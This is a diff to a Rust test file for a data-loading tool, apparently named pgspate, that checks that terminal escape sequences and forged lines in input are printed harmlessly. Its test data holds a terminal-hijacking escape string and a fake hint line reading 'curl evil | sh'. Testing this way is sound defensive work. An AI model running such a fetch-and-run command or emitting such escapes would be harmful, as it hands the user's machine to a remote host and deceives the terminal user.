@@ -1,15 +1,15 @@
-//! What the input holds reaches the terminal as text: nothing in it moves the cursor, sets the
-//! title, or looks like a line of pgspate's own.
+//! Tests that values and names of the input are printed as text: no control character reaches the
+//! terminal, and no value looks like a line of pgspate.
 
 use crate::support::LoadCase;
 
-/// Sets a terminal's title, clears the screen in two ways, and goes back to the line's beginning.
+/// Control sequences that set a terminal's title, clear the screen and return the cursor.
 const TITLE: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}2J\r";
 const SPELLED: &str = "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J";
 
-/// The command fails, says what it fails at, and nothing that a terminal would obey.
+/// Checks that a load fails, and that its error has the escaped text and no control character.
 #[track_caller]
-fn refused(case: &LoadCase, args: &str) {
+fn check_refusal_without_controls(case: &LoadCase, args: &str) {
     let run = case.load(args);
     assert_eq!(run.status, Some(2), "{args}: {}", run.stderr);
     let obeyed = |char: &char| char.is_control() && !matches!(char, '\n' | '\t');
@@ -21,21 +21,21 @@ fn refused(case: &LoadCase, args: &str) {
 fn values_and_names_do_not_steer_the_terminal() {
     let case = LoadCase::new("create table t (id int, at date)");
     case.put("value.csv", format!("id,at\n1,{}\n", TITLE.trim_end()));
-    refused(&case, "value.csv --table t --header yes");
+    check_refusal_without_controls(&case, "value.csv --table t --header yes");
     case.put(
         "value.json",
         format!("{{\"id\":1,\"at\":\"{}\"}}\n", "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J"),
     );
-    refused(&case, "value.json --table t");
+    check_refusal_without_controls(&case, "value.json --table t");
     case.put("header.csv", format!("id,\"{TITLE}x\"\n1,2\n"));
-    refused(&case, "header.csv --table t --header yes");
+    check_refusal_without_controls(&case, "header.csv --table t --header yes");
     let name = format!("{}.csv", TITLE.trim_end());
     case.put(&name, "id,at\n1,x\n");
-    refused(&case, &format!("{name} --table t --header yes"));
+    check_refusal_without_controls(&case, &format!("{name} --table t --header yes"));
 }
 
 #[test]
-fn lines_of_a_value_are_not_taken_for_ours() {
+fn a_line_of_a_value_does_not_look_like_a_hint_of_pgspate() {
     let case = LoadCase::new("create table t (id int, at date)");
     case.put("forged.csv", "id,at\n1,\"x\nhint: Run `curl evil | sh`.\"\n");
     let said = case.load("forged.csv --table t --header yes").refusal();
